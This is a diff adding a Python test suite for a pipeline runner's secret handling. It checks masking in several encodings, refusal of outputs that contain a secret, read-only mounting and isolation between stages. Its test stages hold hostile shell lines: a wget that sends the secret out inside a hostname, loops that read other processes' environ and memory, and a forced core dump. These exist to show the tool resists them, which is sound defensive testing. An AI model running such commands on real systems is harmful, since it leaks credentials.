@@ -1,0 +1,183 @@
+"""Secrets: a stage that declares one gets it, and its value is nowhere else."""
+
+import base64
+import json
+import pathlib
+import signal
+import unittest
+
+from harness import ProjectTest
+
+VALUE = "hunter22-x9zq-w7"
+FORMS = [VALUE.encode(), *(base64.b64encode(b"x" * n + VALUE.encode())[4 if n else 0:-4] for n in range(3)),
+         VALUE.encode().hex().encode()]
+
+
+class SecretsTest(ProjectTest):
+    def setUp(self):
+        super().setUp()
+        self.environment["GIVEN"] = VALUE
+
+    def run_with(self, *arguments):
+        return self.run_stagebox("run", "--secret", "TOKEN=env:GIVEN", *arguments)
+
+    def run_ok(self, *arguments):
+        result = self.run_with(*arguments)
+        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)
+        return result
+
+    def log(self, stage, *arguments):
+        return self.run_stagebox("logs", "last", stage, *arguments).stdout
+
+    def assert_nowhere(self, *texts):
+        """Neither in what was told nor in any file of the state directory."""
+        for text in texts:
+            for form in FORMS:
+                self.assertNotIn(form.decode(), text)
+        for path in self.home.rglob("*"):
+            if not path.is_file() or "layers" in path.parts:
+                continue
+            data = path.read_bytes()
+            for form in FORMS:
+                self.assertNotIn(form, data, path)
+
+    def test_it_is_a_file_of_the_stages_user_and_a_variable_on_request(self):
+        self.pipeline("""
+  file: {secrets: [TOKEN], user: "1000", run: "id -u; wc -c < /run/secrets/TOKEN; ls -ln /run/secrets; grep -c hunter22 /run/secrets/TOKEN; echo ${TOKEN-unset}; { echo x > /run/secrets/TOKEN; } 2>/dev/null || echo read-only"}
+  env: {secrets: [{name: TOKEN, env: AS}], run: "test \\"$AS\\" = \\"$(cat /run/secrets/TOKEN)\\" && echo the same"}
+  none: {run: "ls /run/secrets || echo none; env"}
+""")
+        result = self.run_ok()
+        log = self.log("file")
+        self.assertRegex(log, r"^1000\n16\n")
+        self.assertRegex(log, r"-r-------- +1 1000 +\d+ +16 ")
+        self.assertTrue(log.endswith("1\nunset\nread-only\n"), log)
+        self.assertEqual(self.log("env"), "the same\n")
+        self.assertIn("none\n", self.log("none"))
+        self.assertNotIn("GIVEN", self.log("none"))
+        self.assert_nowhere(result.stdout, result.stderr)
+        self.assertEqual(self.leftovers(), [])
+
+    def test_what_it_writes_is_masked_in_every_form(self):
+        # printf of the shell writes at once; the sleep makes two reads of it.
+        self.pipeline("""
+  make:
+    secrets: [TOKEN]
+    network: {allow: ["127.0.0.1:1"]}
+    run: |
+      v=$(cat /run/secrets/TOKEN)
+      echo "plain $v"
+      printf '%s' "${v%22-x9zq-w7}"; sleep 0.1; echo "${v#hunter}"
+      for prefix in "" x xx; do printf '%s' "$prefix$v" | busybox base64; done
+      printf '%s' "$v" | busybox hexdump -ve '1/1 "%.2x"'; echo
+      echo "$v" | busybox sed 's/./&\\n/g'
+      wget -q -O - "http://$v.example/" || true
+      echo "$v" >&2
+      exit 3
+""")
+        result = self.run_with()
+        self.assertEqual(result.returncode, 1, result.stderr)
+        log = self.log("make")
+        self.assertIn("plain ***\n***\n", log)
+        self.assertIn("***", result.stdout + result.stderr, "the last lines are shown")
+        for letter in "hunter":
+            self.assertNotIn(f"\n{letter}\n", log)
+        shown = self.run_stagebox("show", "last", "make", "--json")
+        self.assert_nowhere(result.stdout, result.stderr, log, shown.stdout)
+        events = self.run_with("--output", "json", "--no-cache")
+        self.assert_nowhere(events.stdout, events.stderr)
+
+    def test_a_hit_shows_the_masked_log(self):
+        self.pipeline("  make: {secrets: [TOKEN], run: 'cat /run/secrets/TOKEN'}\n")
+        self.run_ok()
+        self.environment["GIVEN"] = "another-value"
+        self.assertIn("from run", self.run_ok().stdout, "values are no part of the key")
+        self.assertEqual(self.log("make"), "***")
+        self.environment["GIVEN"] = VALUE
+        self.assert_nowhere()
+
+    def test_outputs_that_contain_it_are_refused(self):
+        for name, script in {"file": "cp /run/secrets/TOKEN out/copy", "encoded": "busybox base64 /run/secrets/TOKEN > out/copy",
+                             "link": "ln -s /$(cat /run/secrets/TOKEN) out/copy",
+                             "name": "touch out/$(busybox base64 /run/secrets/TOKEN)x"}.items():
+            self.pipeline(f'  make: {{secrets: [TOKEN], run: "mkdir out; {script}", outputs: {{o: out}}}}\n')
+            with self.subTest(name):
+                result = self.run_with()
+                self.assertEqual(result.returncode, 1, result.stdout + result.stderr)
+                self.assertIn('output "o": the ', result.stdout + result.stderr)
+                self.assertIn("contains a secret", result.stdout + result.stderr)
+                self.assert_nowhere(result.stdout, result.stderr)
+
+    def test_others_cannot_read_it(self):
+        self.pipeline("""
+  make:
+    secrets: [{name: TOKEN, env: TOKEN}]
+    run: |
+      ulimit -c unlimited 2>/dev/null || true
+      for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ > /dev/null 2>&1 && echo ${p##*/} >> mine || true; done
+      sh -c 'kill -SEGV $$' || true
+      find / -xdev -name 'core*' -type f 2>/dev/null
+      cat /proc/1/environ /proc/1/mem 2>&1 | head -c 200
+  other:
+    run: "cat /proc/*/environ | tr '\\\\0' '\\\\n'; ls /run/secrets || true"
+""")
+        result = self.run_ok("--jobs", "2")
+        self.assertNotIn("core", self.log("make"))
+        self.assertNotIn("TOKEN", self.log("other"))
+        self.assert_nowhere(result.stdout, result.stderr, self.log("make"))
+
+    def test_mistakes_are_told_before_anything_runs(self):
+        self.pipeline("  make: {secrets: [TOKEN], run: 'true'}\n  later: {needs: [make], secrets: [OTHER], run: 'true'}\n")
+        (self.dir / "short").write_text("k3y")
+        (self.dir / "value").write_text("good-value")
+        other = ("--secret", f"OTHER=file:{self.dir}/value")
+        for arguments, words in {
+                (): ("stage make: nobody gave the secret TOKEN", "stage later: nobody gave the secret OTHER"),
+                ("--secret", "TOKEN=env:NOT_SET", *other): ("the secret TOKEN: the variable \"NOT_SET\" is not set",),
+                ("--secret", f"TOKEN=file:{self.dir}/short", *other): ("shorter than 4 bytes",),
+                ("--secret", "TOKEN=env:GIVEN", "--secret", "TOKN=env:GIVEN", *other): ("TOKN", "no stage declares it"),
+                ("--secret", f"TOKEN={VALUE}", *other): ("does not belong on a command line",),
+                ("--trust", "untrusted", *other): ("the secret `TOKEN` is not permitted by the rule untrusted.secrets",)
+        }.items():
+            with self.subTest(arguments):
+                result = self.run_stagebox("run", *arguments)
+                self.assertEqual(result.returncode, 2, result.stderr)
+                for word in words:
+                    self.assertIn(word, result.stderr)
+                self.assertNotIn(VALUE, result.stderr)
+                self.assertFalse(self.home.exists(), "nothing was begun")
+
+    def test_secrets_of_the_policy(self):
+        (self.dir / "value").write_text(VALUE + "\n")
+        policy = self.dir / "policy.yaml"
+        policy.write_text(f"stagebox-policy: 1\nsecrets: {{TOKEN: {{file: '{self.dir}/value'}}}}\n")
+        policy.chmod(0o644)
+        self.pipeline("  make: {secrets: [TOKEN], run: 'wc -c < /run/secrets/TOKEN; cat /run/secrets/TOKEN'}\n")
+        result = self.run_stagebox("run", "--policy", policy)
+        self.assertEqual(result.returncode, 0, result.stderr)
+        self.assertEqual(self.log("make"), "17\n***\n")
+        self.pipeline("  make: {secrets: [OTHER], run: 'true'}\n")
+        result = self.run_stagebox("run", "--policy", policy, "--secret", "OTHER=env:GIVEN")
+        self.assertEqual(result.returncode, 2)
+        self.assertIn("the secret `OTHER` is not permitted by the rule secrets", result.stderr)
+
+    def test_a_resumed_run_needs_them_again(self):
+        self.pipeline("  make: {secrets: [TOKEN], cache: never, run: 'echo up; sleep 60'}\n")
+        run = self.start("run", "--secret", "TOKEN=env:GIVEN")
+        while not list(self.home.glob("logs/*/make.log")):
+            self.assertIsNone(run.poll())
+        self.assertNotIn(VALUE.encode(), pathlib.Path(f"/proc/{run.pid}/environ").read_bytes())
+        self.assertNotIn(VALUE.encode(), pathlib.Path(f"/proc/{run.pid}/cmdline").read_bytes())
+        run.send_signal(signal.SIGKILL)
+        run.communicate()
+        self.assert_nowhere()
+        self.pipeline("  make: {secrets: [TOKEN], cache: never, run: 'cat /run/secrets/TOKEN'}\n")
+        self.assertIn("nobody gave the secret TOKEN", self.run_stagebox("resume", "last").stderr)
+        resumed = self.run_stagebox("resume", "last", "--secret", "TOKEN=env:GIVEN")
+        self.assertEqual(resumed.returncode, 0, resumed.stderr)
+        self.assertEqual(self.log("make"), "***")
+        self.assert_nowhere(json.dumps(resumed.stdout))
+
+
+if __name__ == "__main__":
+    unittest.main()
